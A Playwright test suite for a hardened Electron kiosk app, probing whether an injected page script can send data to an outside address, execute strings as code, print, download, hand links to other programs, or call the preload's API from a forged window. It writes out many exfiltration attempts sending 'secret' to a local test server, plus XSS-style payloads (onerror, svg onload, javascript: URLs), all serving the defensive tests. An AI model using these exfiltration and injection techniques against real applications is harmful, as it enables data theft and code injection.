import type { ElectronApplication } from "@playwright/test";
import { createSocket } from "node:dgram";
import { mkdir, readdir, writeFile } from "node:fs/promises";
import path from "node:path";
import { openOutside } from "../../runtime/outside.ts";
import { expect, test } from "../fixtures.ts";
import { Attract } from "../screens/sign-in.ts";

// What Electron's security checklist is for, tried by a script that has got into the page; see hardening.spec.ts too.

const home = "app://kiosk/index.html";

const addresses = (app: ElectronApplication) =>
  app.evaluate(({ BrowserWindow }) =>
    BrowserWindow.getAllWindows().map(({ webContents }) => webContents.getURL()),
  );

test("nothing reaches another address, by whatever way (1, 7, 8, 13, 14)", async ({
  shared: { app, page },
}) => {
  const outside = await openOutside();
  const { url } = outside;
  const datagrams: Buffer[] = [];
  const udp = createSocket("udp4").on("message", (datagram) => datagrams.push(datagram));
  await new Promise<void>((done) => udp.bind(0, "127.0.0.1", done));
  const outcomes = await page.evaluate(
    async ({ to, port }) => {
      const settled = async (work: () => unknown) => {
        try {
          const answer = Promise.resolve(work());
          const late = new Promise((done) => setTimeout(done, 300, "refused"));
          return (await Promise.race([answer, late])) === "refused" ? "refused" : "done";
        } catch {
          return "refused";
        }
      };
      const opened = (target: EventTarget, event: string) =>
        new Promise((resolve) => target.addEventListener(event, resolve));
      const add = (name: string, attributes: Record<string, string>) => {
        const element = document.createElement(name);
        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
        document.body.append(element);
        return element;
      };
      const tried = {
        fetch: () => fetch(`${to}/fetch`),
        ownFile: () => fetch("index.html"),
        fetchBlind: () => fetch(`${to}/blind`, { mode: "no-cors", method: "POST", body: "secret" }),
        request: () => {
          const request = new XMLHttpRequest();
          request.open("GET", `${to}/xhr`);
          request.send();
          return opened(request, "load");
        },
        socket: () => opened(new WebSocket(`${to.replace("http", "ws")}/socket`), "open"),
        events: () => opened(new EventSource(`${to}/events`), "open"),
        worker: () => opened(new Worker(`${to}/worker.js`), "message"),
        ownWorker: () =>
          opened(new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))), "message"),
        service: () => navigator.serviceWorker.register("assets/none.js"),
        image: () => opened(add("img", { src: `${to}/image` }), "load"),
        sheet: () => opened(add("link", { rel: "stylesheet", href: `${to}/sheet` }), "load"),
        ahead: () => opened(add("link", { rel: "prefetch", href: `${to}/ahead` }), "load"),
        media: () =>
          opened(add("video", { src: `${to}/media`, preload: "auto" }), "loadedmetadata"),
        object: () => opened(add("object", { data: `${to}/object` }), "load"),
        embed: () => opened(add("embed", { src: `${to}/embed` }), "load"),
        webview: () => opened(add("webview", { src: `${to}/webview` }), "dom-ready"),
      };
      const names = Object.keys(tried) as (keyof typeof tried)[];
      const results = await Promise.all(
        names.map(async (name) => [name, await settled(tried[name])] as const),
      );
      // These say nothing of their success; whether they had any is asked of the server.
      navigator.sendBeacon(`${to}/beacon`, "secret");
      add("iframe", { src: `${to}/frame` });
      add("a", { href: `${to}/link`, ping: `${to}/ping` }).click();
      add("a", { href: `${to}/blank`, target: "_blank" }).click();
      for (const method of ["get", "post"]) {
        for (const target of ["_self", "_blank"]) {
          const form = add("form", { action: `${to}/form`, method, target }) as HTMLFormElement;
          form.submit();
          form.requestSubmit();
        }
      }
      const urls = [`stun:127.0.0.1:${port}`, `turn:${new URL(to).host}?transport=tcp`];
      const server = { urls, username: "secret", credential: "secret" };
      const call = new RTCPeerConnection({ iceServers: [server] });
      call.createDataChannel("secret");
      void call.createOffer().then((offer) => call.setLocalDescription(offer));
      window.open(`${to}/window`);
      location.href = `${to}/location`;
      return results;
    },
    { to: url, port: udp.address().port },
  );
  await page.waitForTimeout(1500);
  expect(outcomes.filter(([, outcome]) => outcome !== "refused")).toEqual([]);
  expect(outside.asked).toEqual([]);
  expect({ datagrams: datagrams.length, connections: outside.connections() }).toEqual({
    datagrams: 0,
    connections: 0,
  });
  expect(await addresses(app)).toEqual([home]);
  await new Attract(page).shown();
  udp.close();
  await outside.close();
});

test("no text becomes code (7)", async ({ shared: { app, page } }) => {
  // What a debugger evaluates is exempt from the policy; what a timer calls later is not.
  await page.evaluate(
    () =>
      new Promise<void>((done) => {
        setTimeout(() => {
          const mark = (way: string) => `window.ran = [...(window.ran ?? []), "${way}"]`;
          const ways: (() => unknown)[] = [
            () => (Reflect.get(window, "eval") as (code: string) => unknown)(mark("eval")),
            () => Reflect.apply(setTimeout, window, [mark("timer")]) as unknown,
            () =>
              document.body.append(
                Object.assign(document.createElement("script"), { text: mark("script") }),
              ),
            () => {
              const script = document.createElement("script");
              script.append(mark("script's text"));
              document.body.append(script);
            },
            () => {
              const image = document.createElement("img");
              image.setAttribute("onerror", mark("handler"));
              image.src = "none.png";
              document.body.append(image);
            },
            () => {
              const link = document.createElement("a");
              link.href = `javascript:${mark("address")}`;
              document.body.append(link);
              link.click();
            },
            () => import(`data:text/javascript,${mark("module")}`),
            () => new DOMParser().parseFromString("<p>", "text/html"),
            () => {
              document.body.insertAdjacentHTML("beforeend", `<svg onload='${mark("svg")}'>`);
            },
            () => {
              document.body.innerHTML = `<img src="none.png" onerror='${mark("markup")}'>`;
            },
          ];
          for (const way of ways) {
            try {
              void Promise.resolve(way()).catch(() => undefined);
            } catch {
              continue;
            }
          }
          setTimeout(done, 500);
        });
      }),
  );
  expect(await page.evaluate(() => "ran" in window)).toBe(false);
  expect(await addresses(app)).toEqual([home]);
  await new Attract(page).shown();
});

test("no file comes in and nothing goes out: dropping, saving, printing, asking, other programs (5, 13, 15)", async ({
  start,
  profile,
}) => {
  // Electron and Chromium hand an address to other programs by xdg-open.
  const programs = path.join(profile.root, "programs");
  const handedOn = path.join(profile.root, "handed-on");
  await mkdir(programs);
  for (const name of ["xdg-open", "gio", "gvfs-open", "lpr", "lp"]) {
    const script = `#!/bin/sh\necho "$0 $@" >>"${handedOn}"\n`;
    await writeFile(path.join(programs, name), script, { mode: 0o755 });
  }
  const { app, page } = await start({
    env: { PATH: `${programs}:${profile.env["PATH"] ?? ""}` },
  });
  const file = path.join(profile.root, "brought.html");
  await writeFile(file, "<title>brought along</title>");

  const session = await page.context().newCDPSession(page);
  for (const type of ["dragEnter", "dragOver", "drop"] as const) {
    const data = { items: [], files: [file], dragOperationsMask: 1 };
    await session.send("Input.dispatchDragEvent", { type, x: 200, y: 200, data });
  }
  await session.detach();
  const printed = await page.evaluate(async () => {
    let printing = false;
    addEventListener("beforeprint", () => {
      printing = true;
    });
    window.print();
    for (const address of ["mailto:nobody@example.com", "tel:110", "otpauth://totp/x?secret=A"]) {
      const link = document.createElement("a");
      link.href = address;
      document.body.append(link);
      link.click();
    }
    const link = document.createElement("a");
    link.href = URL.createObjectURL(new Blob(["secret"]));
    link.download = "taken-away.txt";
    link.click();
    // Electron has no prompt(), and says so to whoever calls it (lib/renderer/window-setup.ts).
    let prompted: string | null = null;
    try {
      prompted = prompt("?");
    } catch {
      prompted = null;
    }
    const asked = [confirm("?"), prompted];
    alert("!");
    await new Promise((done) => setTimeout(done, 500));
    return { printing, asked };
  });
  expect(printed).toEqual({ printing: false, asked: [false, null] });
  expect(await addresses(app)).toEqual([home]);
  await new Attract(page).shown();
  const files = await readdir(profile.root, { recursive: true });
  expect(files.filter((name) => /taken-away|handed-on|crdownload/.test(name))).toEqual([]);
});

test("a second page with the same preload at the same address is answered nothing (17, 20)", async ({
  shared: { app },
}) => {
  const answers = await app.evaluate(async ({ app, BrowserWindow }) => {
    const forger = new BrowserWindow({
      show: false,
      webPreferences: { preload: `${app.getAppPath()}/dist/preload/index.cjs`, sandbox: true },
    });
    await forger.loadURL("app://kiosk/index.html");
    const answers: unknown = await forger.webContents.executeJavaScript(
      `Promise.all([window.kiosk.readKiosk({}), window.kiosk.readStatus({}), window.kiosk.signIn({
        loginId: "taro0001", loginPassword: "tarologin1" })])`,
    );
    forger.destroy();
    return answers;
  });
  const refusal = { ok: false, refusal: { code: "malformed" } };
  expect(answers).toEqual([refusal, refusal, refusal]);
});
